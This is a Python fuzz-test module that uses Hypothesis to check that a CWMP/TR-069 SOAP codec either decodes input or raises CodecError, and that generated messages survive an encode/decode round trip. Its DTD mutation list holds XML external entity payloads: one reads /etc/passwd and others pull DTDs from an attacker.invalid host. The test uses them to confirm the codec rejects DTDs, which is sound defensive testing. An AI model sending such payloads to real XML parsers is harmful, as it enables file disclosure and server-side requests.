"""Fuzzing the codec: decode answers any input with an Envelope or a CodecError, nothing else,
and every generated message survives a round trip through encode and decode."""

from __future__ import annotations

import copy
import types
import typing
from collections.abc import Callable
from datetime import UTC, datetime
from functools import cache
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from acs.domain.codec import CodecError, decode, encode
from acs.domain.messages import (
    AnyMessage,
    CwmpVersion,
    Envelope,
    Fault,
    ParameterValue,
)
from tests.unit.test_codec import (
    DECODED,
    FIXTURES,
    HUAWEI_PLACEHOLDERS,
    charset_of,
    split_http,
    wrap_body,
)

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
MESSAGE_TYPES: tuple[type[msgspec.Struct], ...] = typing.get_args(AnyMessage)
METHODS = sorted(str(cls.__struct_config__.tag) for cls in MESSAGE_TYPES)
SOAP_ENV = "http://schemas.xmlsoap.org/soap/envelope/"

XML_CHARS = st.characters(
    codec="utf-8",
    exclude_categories=("Cs",),
    exclude_characters="".join(map(chr, [*range(9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF])),
)
RAW_TEXT = st.text(XML_CHARS, max_size=24)
"""Text an XML document can carry; fields read as sent (keys, values) keep all of it."""
TEXT = RAW_TEXT.map(str.strip)
"""Text without surrounding whitespace, which the lenient reader drops from most fields."""


def is_fault_outcome(check: Callable[[], Envelope]) -> None:
    """Run a decode: it returns an Envelope or raises CodecError; anything else fails the test."""
    try:
        result = check()
    except CodecError:
        return
    assert isinstance(result, Envelope)


# --- (a) arbitrary bytes -----------------------------------------------------

TOKENS = [
    b'<?xml version="1.0"?>',
    b'<?xml version="1.0" encoding="UTF-16"?>',
    b'<?xml version="1.0" encoding="ISO-8859-1"?>',
    f'<s:Envelope xmlns:s="{SOAP_ENV}" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">'.encode(),
    b"</s:Envelope>",
    b"<s:Header>",
    b"</s:Header>",
    b"<s:Body>",
    b"</s:Body>",
    b'<cwmp:ID s:mustUnderstand="1">',
    b"</cwmp:ID>",
    b"<cwmp:SessionTimeout>",
    b"</cwmp:SessionTimeout>",
    *(f"<cwmp:{method}>".encode() for method in METHODS),
    *(f"</cwmp:{method}>".encode() for method in METHODS),
    *(
        f"<{name}>".encode()
        for name in ("ParameterList", "Name", "Value", "Status", "DeviceId", "FaultStruct")
    ),
    *(f"</{name}>".encode() for name in ("ParameterList", "Name", "Value", "Status", "DeviceId")),
    b"<detail><cwmp:Fault><FaultCode>9000</FaultCode></cwmp:Fault></detail>",
    b"1",
    b"true",
    b"\xc3\xa9",
    b"\xff",
    b"&amp;",
    b"&#0;",
    b"&x;",
    b"0001-01-01T00:00:00Z",
    b"\xb2",
    b'<!DOCTYPE x [<!ENTITY x "y">]>',
]
CHARSETS = st.sampled_from(
    [None, "utf-8", "iso-8859-1", "utf-16", "utf-32", "cp1252", "base64", "rot13", "x-no", ""]
)


@FUZZ
@given(body=st.binary(max_size=512), charset=CHARSETS)
def test_arbitrary_bytes_decode_or_raise_codec_error(body: bytes, charset: str | None) -> None:
    is_fault_outcome(lambda: decode(body, charset))


@FUZZ
@given(
    parts=st.lists(st.sampled_from(TOKENS) | st.binary(max_size=8), max_size=40), charset=CHARSETS
)
def test_soap_shaped_bytes_decode_or_raise_codec_error(
    parts: list[bytes], charset: str | None
) -> None:
    is_fault_outcome(lambda: decode(b"".join(parts), charset))


# --- (b) mutations of the real samples ---------------------------------------


@cache
def sample(name: str) -> tuple[bytes, str | None]:
    """The body and HTTP charset of a fixture, as the HTTP layer would hand them to decode."""
    raw = (FIXTURES / name).read_bytes()
    for placeholder, value in HUAWEI_PLACEHOLDERS.items():
        raw = raw.replace(placeholder, value)
    if name.endswith(".http") or name.startswith("mikrotik"):
        headers, body = split_http(raw)
        return body, charset_of(headers)
    return (wrap_body(raw) if "fragment" in name else raw), None


SAMPLES = sorted(DECODED)
Mutation = Callable[[st.DrawFn, bytes, str | None], tuple[bytes, str | None]]


def flip_bytes(draw: st.DrawFn, body: bytes, charset: str | None) -> tuple[bytes, str | None]:
    """Flip a few bytes anywhere."""
    data = bytearray(body)
    for _ in range(draw(st.integers(1, 4))):
        data[draw(st.integers(0, len(data) - 1))] ^= draw(st.integers(1, 255))
    return bytes(data), charset


def truncate(draw: st.DrawFn, body: bytes, charset: str | None) -> tuple[bytes, str | None]:
    """Cut the body short."""
    return body[: draw(st.integers(0, len(body) - 1))], charset


def splice_unicode(draw: st.DrawFn, body: bytes, charset: str | None) -> tuple[bytes, str | None]:
    """Insert any unicode, UTF-8 encoded, at any byte."""
    at = draw(st.integers(0, len(body)))
    text = draw(st.text(st.characters(codec="utf-8"), min_size=1, max_size=8))
    return body[:at] + text.encode("utf-8", "surrogatepass") + body[at:], charset


DTDS = [
    b'<!DOCTYPE Envelope [<!ENTITY e "expanded">]>',
    b'<!DOCTYPE Envelope [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
    b'<!DOCTYPE Envelope SYSTEM "http://attacker.invalid/evil.dtd">',
]


def insert_dtd(draw: st.DrawFn, body: bytes, charset: str | None) -> tuple[bytes, str | None]:
    """Declare a DTD after the XML declaration, and maybe use its entity in some text."""
    end = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
    data = body[:end] + draw(st.sampled_from(DTDS)) + body[end:]
    closers = [index for index in range(len(data)) if data.startswith(b"</", index)]
    if closers and draw(st.booleans()):
        at = draw(st.sampled_from(closers))
        data = data[:at] + b"&e;" + data[at:]
    return data, charset


def tree_mutation(change: Callable[[st.DrawFn, etree._Element], None]) -> Mutation:
    """A mutation of the parsed sample, serialised back as UTF-8."""

    def mutate(draw: st.DrawFn, body: bytes, charset: str | None) -> tuple[bytes, str | None]:
        parser = etree.XMLParser(encoding=charset, resolve_entities=False)
        root = etree.fromstring(body, parser)
        elements = [e for e in root.iter() if e is not root and isinstance(e.tag, str)]
        change(draw, draw(st.sampled_from(elements)))
        return etree.tostring(root, encoding="UTF-8", xml_declaration=True), None

    return mutate


def delete(draw: st.DrawFn, element: etree._Element) -> None:
    """Remove an element."""
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)


def duplicate(draw: st.DrawFn, element: etree._Element) -> None:
    """Repeat an element right after itself."""
    parent = element.getparent()
    assert parent is not None
    parent.insert(parent.index(element) + 1, copy.deepcopy(element))


def retext(draw: st.DrawFn, element: etree._Element) -> None:
    """Replace the text of an element by any text XML can carry."""
    element.text = draw(RAW_TEXT | st.sampled_from(["", "-1", "99999999999999999999", "TRUE"]))


def rename(draw: st.DrawFn, element: etree._Element) -> None:
    """Rename an element to another CWMP name, keeping its namespace."""
    namespace = etree.QName(element).namespace
    name = draw(st.sampled_from([*METHODS, "Body", "Header", "Envelope", "Fault", "detail"]))
    element.tag = name if namespace is None else f"{{{namespace}}}{name}"


MUTATIONS: dict[str, Mutation] = {
    "flip-bytes": flip_bytes,
    "truncate": truncate,
    "splice-unicode": splice_unicode,
    "insert-dtd": insert_dtd,
    "delete-element": tree_mutation(delete),
    "duplicate-element": tree_mutation(duplicate),
    "random-text": tree_mutation(retext),
    "rename-element": tree_mutation(rename),
}


def test_every_sample_decodes_before_it_is_mutated() -> None:
    for name in SAMPLES:
        body, charset = sample(name)
        assert isinstance(decode(body, charset), Envelope), name


@pytest.mark.parametrize("kind", sorted(MUTATIONS))
@FUZZ
@given(data=st.data())
def test_mutated_samples_decode_or_raise_codec_error(kind: str, data: st.DataObject) -> None:
    body, charset = sample(data.draw(st.sampled_from(SAMPLES), label="sample"))
    mutated, charset = MUTATIONS[kind](data.draw, body, charset)
    is_fault_outcome(lambda: decode(mutated, charset))
    if kind == "insert-dtd":
        with pytest.raises(CodecError):
            decode(mutated, charset)


# --- (c) generated messages round trip ---------------------------------------

KEPT_AS_SENT = {"command_key", "parameter_key", "username", "password", "arg", "value"}
"""Fields read exactly as sent; every other string loses its surrounding whitespace."""
TIMES = st.none() | (
    st.datetimes(datetime(1970, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)).map(
        datetime.isoformat
    )
    | TEXT.filter(lambda text: text and not text.startswith("0001-01-01T00:00:00"))
)
"""A dateTime; None travels as the Unknown Time, and the Unknown Time or "" reads as None."""
PARAMETER_VALUE = st.builds(
    ParameterValue,
    name=TEXT,
    value=RAW_TEXT,
    type=st.sampled_from(["xsd:string", "xsd:int", "xsd:unsignedInt", "xsd:boolean"]),
)
OVERRIDES: dict[tuple[type, str], st.SearchStrategy[Any]] = {
    (Fault, "faultcode"): st.sampled_from(["Client", "Server"]),
}


def strategy_for(hint: Any, name: str = "") -> st.SearchStrategy[Any]:
    """Values of a field type that the codec carries unchanged."""
    if hint is str:
        return RAW_TEXT if name in KEPT_AS_SENT else TEXT
    if hint is int:
        return st.integers(-(2**31), 2**32 - 1)
    if hint is bool:
        return st.booleans()
    if isinstance(hint, types.UnionType):
        assert set(typing.get_args(hint)) == {str, type(None)}, hint
        return TIMES
    if typing.get_origin(hint) is tuple:
        return tuple_of(typing.get_args(hint)[0])
    return structs(hint)


def tuple_of(item: Any) -> st.SearchStrategy[tuple[Any, ...]]:
    """Up to three items; ParameterValue names are unique, as the reader keeps one per name."""
    if item is ParameterValue:
        return st.lists(PARAMETER_VALUE, max_size=3, unique_by=lambda p: p.name).map(tuple)
    return st.lists(strategy_for(item), max_size=3).map(tuple)


@cache
def structs(cls: type[msgspec.Struct]) -> st.SearchStrategy[Any]:
    """Instances of a struct with every field generated."""
    fields = {
        field.name: OVERRIDES[cls, field.name]
        if (cls, field.name) in OVERRIDES
        else strategy_for(field.type, field.name)
        for field in msgspec.structs.fields(cls)
    }
    return st.builds(cls, **fields)


ENVELOPE_HEADERS = {
    "version": st.sampled_from(CwmpVersion),
    "id": st.none() | RAW_TEXT,
    "hold_requests": st.booleans(),
    "session_timeout": st.none() | st.integers(0, 2**32 - 1),
    "supported_versions": st.none() | TEXT,
    "use_version": st.none() | TEXT,
}
WIRE_VERSION = {CwmpVersion.V1_3: CwmpVersion.V1_2, CwmpVersion.V1_4: CwmpVersion.V1_2}


@pytest.mark.parametrize("cls", MESSAGE_TYPES, ids=lambda cls: cls.__name__)
@settings(max_examples=40, deadline=None)
@given(data=st.data())
def test_generated_messages_survive_a_round_trip(
    cls: type[msgspec.Struct], data: st.DataObject
) -> None:
    sent = data.draw(st.builds(Envelope, message=structs(cls), **ENVELOPE_HEADERS))
    expected = msgspec.structs.replace(sent, version=WIRE_VERSION.get(sent.version, sent.version))
    assert decode(encode(sent)) == expected
